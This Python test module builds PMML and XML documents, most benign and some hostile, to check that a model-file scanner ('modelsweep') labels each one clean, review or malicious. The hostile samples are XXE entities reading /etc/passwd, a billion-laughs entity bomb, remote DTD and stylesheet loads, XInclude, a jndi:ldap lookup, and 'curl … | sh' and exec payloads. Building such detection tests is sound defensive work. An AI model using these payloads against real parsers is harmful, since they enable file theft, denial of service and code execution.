"""PMML that would make a parser fetch, expand or run something, and documents of real exporters that look like it."""

from __future__ import annotations

from collections.abc import Callable

from modelsweep.core.report import Verdict
from tests.scanners.case import Case

HEADER = '<Header><Application name="Nyoka" version="5.5.0"/></Header>'
FIELDS = (
    '<DataDictionary numberOfFields="2"><DataField name="x" optype="continuous" dataType="double"/>'
    '<DataField name="eval(x)" optype="continuous" dataType="double"/></DataDictionary>'
)
TREE = (
    '<TreeModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema>'
    '<Node id="0"><True/><Node id="1" score="1"><SimplePredicate field="x" operator="lessOrEqual" value="0.5"/></Node>'
    "</Node></TreeModel>"
)
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'


def document(*inner: str, before: str = "", declaration: str = DECLARATION, attributes: str = "") -> bytes:
    """Return a model with more elements, and with what stands `before` its root."""
    root = f'<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4.1"{attributes}>'
    return f"{declaration}{before}{root}{HEADER}{FIELDS}{''.join(inner)}{TREE}</PMML>\n".encode()


def extension(**attributes: str) -> str:
    """Return an extension, as every exporter adds some."""
    written = " ".join(f'{key}="{value}"' for key, value in attributes.items())
    return f"<Extension {written}/>"


def applied(function: str) -> str:
    """Return a field that a function makes."""
    field = f'<DerivedField name="y" optype="continuous" dataType="double"><Apply function="{function}">'
    return f'<TransformationDictionary>{field}<FieldRef field="x"/></Apply></DerivedField></TransformationDictionary>'


def laughs(levels: int = 9) -> str:
    """Return a document type whose entities expand tenfold each."""
    declared = ['<!ENTITY lol0 "lol">']
    declared += [f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, levels + 1)]
    return f"<!DOCTYPE PMML [{''.join(declared)}]>"


def wide() -> bytes:
    """Return a document in UTF-16 with an entity."""
    text = document(before='<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>', declaration="").decode()
    return text.encode("utf-16")


def encoded(name: str, python: str, *inner: str, evil: bool = False) -> bytes:
    """Return a document that declares the encoding `name`, with an entity where it is to be `evil`."""
    before = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>' if evil else ""
    text = document(*inner, before=before, declaration=f'<?xml version="1.0" encoding="{name}"?>\n').decode()
    return text.rstrip().encode(python)


def deep() -> bytes:
    """Return a script, and extensions inside extensions, deeper than any exporter goes."""
    return document("<script/>" + "<Extension>" * 2_000 + "</Extension>" * 2_000)


def case(build: Callable[[], bytes], verdict: Verdict, name: str = "model.pmml") -> Case:
    """Return the case of a document."""
    return Case(build, name, verdict)


DTD = '<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">'
INCLUDE = ' xmlns:xi="http://www.w3.org/2001/XInclude"'
XSL = ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'

OTHER = {
    f"other_{name}": Case(
        lambda declared=declared: f"<!DOCTYPE a [{declared}]>\n<a>&x;</a>\n".encode(),  # type: ignore[misc]
        file,
        verdict,
        cut_is_clean=True,
    )
    for name, file, declared, verdict in (
        ("dictionary", "tags.dictionary", '<!ENTITY x SYSTEM "file:///etc/hosts">', Verdict.MALICIOUS),
        ("climbing", "robot.urdf", '<!ENTITY x SYSTEM "../../../../etc/hosts">', Verdict.MALICIOUS),
        ("from_a_server", "labels.xml", '<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;', Verdict.REVIEW),
        ("bomb", "labels.xml", laughs().partition("[")[2].rpartition("]")[0], Verdict.MALICIOUS),
        ("behind_a_comment", "a.xml", "<!-- ] --><!ENTITY x SYSTEM '/etc/hosts'>", Verdict.MALICIOUS),
        ("benign_chapter", "book.xml", '<!ENTITY x SYSTEM "chapter1.xml">', Verdict.CLEAN),
        ("benign_names", "icon.svg", '<!ENTITY x "http://ns.example.org/1.0/">', Verdict.CLEAN),
        (
            "benign_standard",
            "page.xml",
            '<!ENTITY % x PUBLIC "-//W3C//A" "http://www.w3.org/a.ent"> %x;',
            Verdict.CLEAN,
        ),
    )
}
"""Other XML, of which only the document type is read."""
CASES = {
    "benign": case(lambda: document().rstrip(), Verdict.CLEAN),
    "benign_type_in_a_comment": Case(
        lambda: b"<!-- <!DOCTYPE s [<!ENTITY x 'http://a.example.invalid/'>]> -->\n<s xmlns='urn:s'>x</s>\n",
        "schema.xsd",
        Verdict.CLEAN,
        cut_is_clean=True,
    ),
    "type_behind_one_in_a_comment": Case(
        lambda: (
            b"<!-- <!DOCTYPE s [<!ENTITY y 'z'>]> -->\n"
            b"<!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>\n<s>&x;</s>\n"
        ),
        "schema.xsd",
        Verdict.MALICIOUS,
    ),
    "benign_other_name": case(lambda: document().rstrip(), Verdict.CLEAN, "model.xml"),
    "benign_utf_16": case(lambda: document(declaration="").decode().rstrip().encode("utf-16"), Verdict.CLEAN),
    "benign_utf_32": case(lambda: encoded("UTF-32", "utf-32"), Verdict.CLEAN),
    "benign_gbk": case(lambda: encoded("GBK", "gbk", extension(name="作者", value="张三")), Verdict.CLEAN),
    "benign_shift_jis": case(
        lambda: encoded("Shift_JIS", "shift_jis", extension(name="表", value="能")), Verdict.CLEAN
    ),
    "entity_in_utf_7": case(lambda: encoded("UTF-7", "utf-7", evil=True), Verdict.MALICIOUS),
    "entity_in_utf_16_be": case(lambda: encoded("UTF-16BE", "utf-16-be", evil=True), Verdict.MALICIOUS, "model.xml"),
    "entity_in_utf_32": case(lambda: encoded("UCS-4", "utf-32-be", evil=True), Verdict.MALICIOUS, "model.xml"),
    "entity_in_big5": case(lambda: encoded("Big5", "big5", evil=True), Verdict.MALICIOUS),
    "entity_on_mainframes": case(lambda: encoded("IBM037", "cp037", evil=True), Verdict.MALICIOUS),
    "unknown_encoding": case(lambda: encoded("x-none", "ascii", evil=True), Verdict.NOT_SCANNED),
    "benign_own_dtd": case(lambda: document(before=DTD).rstrip(), Verdict.CLEAN),
    "benign_extensions": case(
        lambda: document(
            extension(extender="acme", name="evaluation", value="exec summary"), applied("x-upper")
        ).rstrip(),
        Verdict.CLEAN,
    ),
    "benign_class_function": case(lambda: document(applied("com.acme.Scale")).rstrip(), Verdict.CLEAN),
    "external_entity": case(
        lambda: document("&x;", before='<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), Verdict.MALICIOUS
    ),
    "external_entity_utf_16": case(wide, Verdict.MALICIOUS),
    "parameter_entity": case(
        lambda: document(before='<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'),
        Verdict.MALICIOUS,
    ),
    "entity_bomb": case(lambda: document("&lol9;", before=laughs()), Verdict.MALICIOUS),
    "entity_bomb_in_attribute": case(
        lambda: document(before=laughs().replace("]>", '<!ATTLIST PMML v CDATA "&lol9;">]>')), Verdict.MALICIOUS
    ),
    "entity": case(lambda: document(before='<!DOCTYPE PMML [<!ENTITY company "Acme">]>'), Verdict.REVIEW),
    "external_dtd": case(lambda: document(before='<!DOCTYPE PMML SYSTEM "http://192.0.2.1/x.dtd">'), Verdict.REVIEW),
    "include": case(
        lambda: document('<xi:include href="/etc/passwd" parse="text"/>', attributes=INCLUDE), Verdict.REVIEW
    ),
    "stylesheet": case(
        lambda: document(before='<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/x.xsl"?>'), Verdict.REVIEW
    ),
    "transformation": case(lambda: document('<xsl:value-of select="document(1)"/>', attributes=XSL), Verdict.REVIEW),
    "script_element": case(lambda: document("<Extension><script>1 + 1</script></Extension>"), Verdict.REVIEW),
    "script_in_extension": case(
        lambda: document("<Extension><![CDATA[java.lang.Runtime.getRuntime().exec('id')]]></Extension>"), Verdict.REVIEW
    ),
    "script_in_attribute": case(
        lambda: document(extension(name="init", value="__import__('os').system('echo modelsweep-test')")),
        Verdict.REVIEW,
    ),
    "include_of_a_draft": case(
        lambda: document('<q:include href="/etc/passwd"/>', attributes=' xmlns:q="http://www.w3.org/2003/XInclude"'),
        Verdict.REVIEW,
    ),
    "instruction_runs": case(lambda: document('<?php system("echo modelsweep-test"); ?>'), Verdict.REVIEW),
    **{
        f"code_in_extension_{number}": case(
            lambda code=code: document(f"<Extension><![CDATA[{code}]]></Extension>"),  # type: ignore[misc]
            Verdict.REVIEW,
        )
        for number, code in enumerate(
            (
                "${jndi:" + "ldap://192.0.2.1/a}",
                "importlib.import_module('os')",
                "system('echo modelsweep-test')",
                "new java.net.URL(x)",
                "Class.forName(x)",
                "cmd.exe /c calc",
                "curl http://192.0.2.1/x | sh",
            )
        )
    },
    "benign_words_in_extension": case(
        lambda: document(
            "<Extension>compiled by javac; class Forname; see java.lang.String, https://example.org and /bin/shape"
            "</Extension>"
        ).rstrip(),
        Verdict.CLEAN,
    ),
    "class_runs": case(lambda: document(applied("java.lang.Runtime.exec")), Verdict.REVIEW),
    "deep": case(deep, Verdict.REVIEW),
    **OTHER,
    "other_root": case(lambda: b"<html><body/></html>", Verdict.NOT_SCANNED),
    "no_xml": case(lambda: b"weights of a model", Verdict.NOT_SCANNED),
}
